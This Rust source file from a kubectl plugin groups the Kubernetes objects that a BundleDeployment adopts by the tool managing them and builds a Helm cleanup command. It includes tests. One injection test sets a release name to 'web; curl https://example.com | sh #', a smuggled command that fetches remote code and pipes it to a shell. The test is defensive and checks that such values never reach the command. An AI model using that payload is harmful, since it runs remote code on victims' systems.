//! The objects that a BundleDeployment adopts, grouped by the tool that manages them.

use std::collections::BTreeMap;

use bundle_core::diagnostic::{Finding, Findings, codes};
use bundle_core::names::{KubeName, NameKind};

use crate::commands::deployments::preview::origin::ObjectOrigin;
use crate::commands::deployments::preview::{NoteEffect, Preview};
use crate::ui::safe;

/// Maximum number of objects that a note names for one tool.
const MAX_NAMED: usize = 5;

/// Objects that a BundleDeployment adopts.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct AdoptedObjects {
    /// Keys of the objects, by the tool that manages them. The tool is `None` if no label,
    /// annotation or field manager names one.
    by_origin: BTreeMap<Option<ObjectOrigin>, Vec<String>>,
}

/// Returns the objects that the BundleDeployment `name` adopts. Fails if an object cannot be
/// adopted, or if no object needs adoption.
pub(super) fn objects_to_adopt(name: &str, preview: &Preview) -> Result<AdoptedObjects, Findings> {
    let mut findings = Findings::default();
    let mut by_origin: BTreeMap<Option<ObjectOrigin>, Vec<String>> = BTreeMap::new();
    for change in &preview.changes {
        let Some(note) = &change.note else {
            continue;
        };
        match note.effect {
            NoteEffect::Adoption => {
                let keys = by_origin.entry(change.origin.clone()).or_default();
                keys.push(change.key.clone());
            }
            NoteEffect::Failure | NoteEffect::UnsafeDefinition => {
                let message = format!("{}: {}", change.key, note.text);
                findings.push(Finding::error(codes::cluster::NOT_ADOPTABLE, message).hint(
                    "remove the object from the content, or correct the cause; nothing was changed",
                ));
            }
            NoteEffect::None => {}
        }
    }
    if by_origin.is_empty() && !findings.has_errors() {
        let message = format!("bundledeployment {name}: the content has no object to adopt");
        findings.push(
            Finding::error(codes::cluster::NOTHING_TO_ADOPT, message)
                .hint("install the content with `kubectl bundle deploy`"),
        );
    }
    if findings.has_errors() {
        return Err(findings);
    }
    Ok(AdoptedObjects { by_origin })
}

impl AdoptedObjects {
    /// Returns the number of objects as text.
    pub(super) fn count(&self) -> String {
        match self.by_origin.values().map(Vec::len).sum::<usize>() {
            1 => "1 object".to_owned(),
            count => format!("{count} objects"),
        }
    }

    /// Returns a line for each tool, with the objects that the tool manages. A tool that is a
    /// controller has a second line with a warning.
    pub(super) fn lines(&self) -> Vec<String> {
        let mut lines = Vec::new();
        for (origin, keys) in &self.by_origin {
            let tool = match origin {
                Some(origin) => safe(&origin.to_string()),
                None => "no tool".to_owned(),
            };
            let named: Vec<String> = keys.iter().take(MAX_NAMED).map(|key| safe(key)).collect();
            let more = match keys.len().saturating_sub(MAX_NAMED) {
                0 => String::new(),
                more => format!(" and {more} more"),
            };
            lines.push(format!("managed by {tool}: {}{more}", named.join(", ")));
            if origin.as_ref().is_some_and(ObjectOrigin::is_controller) {
                lines.push(format!(
                    "{tool} applies these objects again after the adoption: remove them from its source first"
                ));
            }
        }
        lines
    }

    /// Returns the steps that remain for the user after the adoption.
    pub(super) fn next_steps(&self) -> Vec<String> {
        let origins = self.by_origin.keys().flatten();
        let steps = origins.filter_map(|origin| match origin {
            ObjectOrigin::Helm { release, namespace } => {
                let step = format!(
                    "Helm still lists release {}/{}, and `helm uninstall` deletes the adopted objects. Remove only its record",
                    safe(namespace),
                    safe(release)
                );
                // A user pastes this command into a shell, and everyone who can write the object
                // can set its annotations. Therefore the command contains only valid names.
                let parse = KubeName::parse;
                let names = (
                    parse(NameKind::Label, namespace),
                    parse(NameKind::Subdomain, release),
                );
                Some(match names {
                    (Ok(namespace), Ok(release)) => format!(
                        "{step}: kubectl delete secret -n {namespace} -l owner=helm,name={release}"
                    ),
                    _ => format!("{step}, a Secret with the label owner=helm"),
                })
            }
            _ => None,
        });
        steps.collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::commands::deployments::preview::tests_support::preview_with_notes;

    fn helm() -> ObjectOrigin {
        ObjectOrigin::Helm {
            release: "web".to_owned(),
            namespace: "team-a".to_owned(),
        }
    }

    #[test]
    fn adopted_objects_are_grouped_by_tool() {
        let flux = ObjectOrigin::Flux("Kustomization web".to_owned());
        let preview = preview_with_notes(vec![
            ("ConfigMap/team-a/web", NoteEffect::Adoption, Some(helm())),
            ("Service/team-a/web", NoteEffect::Adoption, Some(helm())),
            ("ConfigMap/team-a/x", NoteEffect::Adoption, Some(flux)),
            ("ConfigMap/team-a/y", NoteEffect::None, None),
        ]);
        let adopted = objects_to_adopt("web", &preview).unwrap();
        assert_eq!(adopted.count(), "3 objects");
        assert_eq!(
            adopted.lines(),
            [
                "managed by Helm release team-a/web: ConfigMap/team-a/web, Service/team-a/web",
                "managed by Flux Kustomization web: ConfigMap/team-a/x",
                "Flux Kustomization web applies these objects again after the adoption: remove them from its source first",
            ]
        );
        let steps = adopted.next_steps();
        assert_eq!(steps.len(), 1);
        assert!(steps[0].ends_with("kubectl delete secret -n team-a -l owner=helm,name=web"));
    }

    #[test]
    fn annotations_never_become_part_of_a_command() {
        for (release, namespace) in [
            ("web; curl https://example.com | sh #", "team-a"),
            ("web", "team-a -l owner"),
            ("web,name=db", "team-a"),
            ("", "team-a"),
        ] {
            let origin = ObjectOrigin::Helm {
                release: release.to_owned(),
                namespace: namespace.to_owned(),
            };
            let preview = preview_with_notes(vec![(
                "ConfigMap/team-a/web",
                NoteEffect::Adoption,
                Some(origin),
            )]);
            let steps = objects_to_adopt("web", &preview).unwrap().next_steps();
            assert_eq!(steps.len(), 1);
            assert!(!steps[0].contains("kubectl"), "{}", steps[0]);
        }
    }

    #[test]
    fn content_without_existing_objects_and_foreign_objects_are_rejected() {
        let none = objects_to_adopt("web", &preview_with_notes(Vec::new())).unwrap_err();
        let code = |findings: &Findings| findings.errors().next().unwrap().code.id;
        assert_eq!(code(&none), "BUNDLE-CLUSTER-035");
        let foreign = preview_with_notes(vec![
            ("ConfigMap/a/web", NoteEffect::Failure, None),
            ("ConfigMap/a/x", NoteEffect::Adoption, None),
        ]);
        let rejected = objects_to_adopt("web", &foreign).unwrap_err();
        assert_eq!(code(&rejected), "BUNDLE-CLUSTER-034");
    }
}
